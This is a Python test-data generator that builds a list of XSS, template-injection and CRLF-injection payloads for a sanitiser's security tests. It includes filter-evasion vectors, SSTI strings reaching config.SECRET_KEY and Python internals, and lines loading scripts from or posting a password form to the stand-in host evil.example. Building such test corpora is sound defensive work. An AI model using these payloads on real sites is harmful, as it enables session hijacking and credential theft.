"""Regenerate xss_payloads.txt: hand-written vectors in the style of the public
filter-evasion cheat sheets (OWASP XSS Filter Evasion, PortSwigger's XSS cheat sheet),
crossed with URL encodings and a few mechanical mutations.

One payload per line. Characters a line cannot hold are written as tokens that
tests/security/oracle.py's `load_payloads` turns back: {TAB} {LF} {CR} {NUL} {FF} {LS} {PS}.
Run: .venv/bin/python tests/data/generate_xss_payloads.py
"""

from __future__ import annotations

from pathlib import Path

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

# Every way of spelling a script URL that some browser, sometime, accepted.
URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java{TAB}script:alert(1)",
    "java{LF}script:alert(1)",
    " {FF}javascript:alert(1)",
    "{NUL}javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "javascript&colon;alert(1)",
    "jav&#x09;ascript:alert(1)",
    "%6A%61%76%61%73%63%72%69%70%74:alert(1)",
    "vbscript:msgbox(1)",
    f"data:text/html;base64,{B64_SCRIPT}",
    "DATA:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
]

URL_TEMPLATES = [
    '<a href="{U}">click</a>',
    "<a href='{U}'>click</a>",
    "<a href={U}>click</a>",
    '<img src="{U}">',
    '<iframe src="{U}"></iframe>',
    '<form action="{U}"><button>go</button></form>',
    '<button formaction="{U}">go</button>',
    '<svg><a xlink:href="{U}"><text x="9" y="9">x</text></a></svg>',
    '<object data="{U}"></object>',
    '<embed src="{U}">',
    '<meta http-equiv="refresh" content="0;url={U}">',
    '<math href="{U}">x</math>',
    '<base href="{U}">',
    '<video poster="{U}"></video>',
]

HANDWRITTEN = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<script src="https://evil.example/x.js"></script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<script/x>alert(1)</script>",
    '<script type="text/javascript">alert(1);</script>',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<script{LF}>alert(1)</script>",
    "<script>eval(atob('YWxlcnQoMSk='))</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=x onerror  =  alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributename=x>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onpointerover=alert(1)>hover</div>",
    "<a onmouseover=alert(1)>hover</a>",
    '<a href="#" onclick="alert(1)">x</a>',
    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
    "<style onload=alert(1)></style>",
    "<iframe onload=alert(1)></iframe>",
    "<object onerror=alert(1)></object>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<input type=image src=1 onerror=alert(1)>",
    "<p onmouseover=alert(1)>para</p>",
    "<strong onclick=alert(1)>bold</strong>",
    "<a href=https://ok.example onclick=alert(1)>ok link</a>",
    "<img src=https://ok.example/a.png onload=alert(1)>",
    # broken / nested / namespace confusion
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe>'
    "</foreignObject></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)' /></svg>#x\" /></svg>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<a href=\"javas<!-- -->cript:alert(1)\">x</a>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<div/onclick=alert(1)>x",
    "<<img src=x onerror=alert(1)//<",
    "<img src=x onerror=alert(1)",
    "<a href=\"https://ok.example\"<img src=x onerror=alert(1)>>x</a>",
    "<p title=\"</p><script>alert(1)</script>\">x</p>",
    "<h2 title='x' onmouseover='alert(1)'>h</h2>",
    "<blockquote cite=javascript:alert(1)>q</blockquote>",
    "<pre><code><script>alert(1)</script></code></pre>",
    # attribute breaking (for values placed in attributes)
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="',
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1) `",
    'x" style="x:expression(alert(1))',
    "javascript:alert(1)//",
    '"/><svg onload=alert(1)>',
    "';alert(1);//",
    '";alert(1);//',
    "</a><a href=javascript:alert(1)>",
    # CSS
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    "<link rel=stylesheet href=javascript:alert(1)>",
    '<div style="behavior:url(x.htc)">x</div>',
    '<div style="-moz-binding:url(https://evil.example/x.xml#xss)">x</div>',
    '<p style="position:fixed;inset:0;background:red">overlay</p>',
    # other dangerous elements
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv="set-cookie" content="session=stolen">',
    '<base href="https://evil.example/">',
    '<link rel="import" href="https://evil.example">',
    '<embed src="https://evil.example/x.swf">',
    '<applet code="x.class"></applet>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<body background="javascript:alert(1)">',
    '<form action="https://evil.example/steal" method="post"><input name="password">'
    "<button>Log in</button></form>",
    '<input name="csrf_token" value="x"><button formaction="/en/auth/logout">out</button>',
    '<textarea name="body">planted</textarea>',
    # unicode tricks
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\u200bipt>alert(1)</script>",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "<img src=x one\u200brror=alert(1)>",
    "\u2028<script>alert(1)</script>\u2029",
    "<\u017fcript>alert(1)</\u017fcript>",
    "<script>\\u0061lert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<a href=\"\u2028javascript:alert(1)\">x</a>",
    "<a href=\"jav\u0000ascript:alert(1)\">x</a>",
    "<img src=x onerror=\u0061lert(1)>",
    "\u0130<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # template injection (Jinja, other engines, client frameworks)
    "{{7*7}}",
    "{{ config }}",
    "{{ config.SECRET_KEY }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ request.application.__globals__ }}",
    "{% for x in range(3) %}loop{% endfor %}",
    "{% raw %}{{7*7}}{% endraw %}",
    "{{ self._TemplateReference__context }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "%(name)s %s {0} {}",
    # header / line injection (feeds, calendar, mail)
    "Title{CR}{LF}ATTACH:https://evil.example/x",
    "Title{LF}BEGIN:VEVENT{LF}SUMMARY:planted{LF}END:VEVENT",
    "Name{CR}{LF}Bcc: victim@example.org",
    "x{CR}{LF}{CR}{LF}<script>alert(1)</script>",
    "]]><script>alert(1)</script><![CDATA[",
    "<![CDATA[]]><script>alert(1)</script>",
]


def mutations(payload: str) -> list[str]:
    """Mechanical variants of one vector: upper case, unclosed, slashes for spaces."""
    out = [payload.upper()]
    if payload.endswith(">") and "</" in payload:
        out.append(payload[: payload.rfind("</")])
    if " " in payload and payload.startswith("<"):
        out.append(payload.replace(" ", "/", 1))
    return out


# Characters a text line cannot hold (or that editors and splitlines() treat as breaks).
TOKENS = {"\t": "{TAB}", "\n": "{LF}", "\r": "{CR}", "\x00": "{NUL}", "\x0c": "{FF}",
          "\u2028": "{LS}", "\u2029": "{PS}"}


def encode(payload: str) -> str:
    for char, token in TOKENS.items():
        payload = payload.replace(char, token)
    return payload


def decode(line: str) -> str:
    for char, token in TOKENS.items():
        line = line.replace(token, char)
    return line


def build() -> list[str]:
    payloads: list[str] = []
    for template in URL_TEMPLATES:
        payloads += [template.replace("{U}", url) for url in URLS]
    payloads += HANDWRITTEN
    for p in HANDWRITTEN[:25]:
        payloads += mutations(p)
    seen: dict[str, None] = {}
    for p in payloads:
        seen.setdefault(decode(p), None)
    return list(seen)


if __name__ == "__main__":
    target = Path(__file__).with_name("xss_payloads.txt")
    lines = [encode(p) for p in build()]
    target.write_text("\n".join(lines) + "\n", encoding="utf-8")
    print(f"{len(lines)} payloads written to {target}")
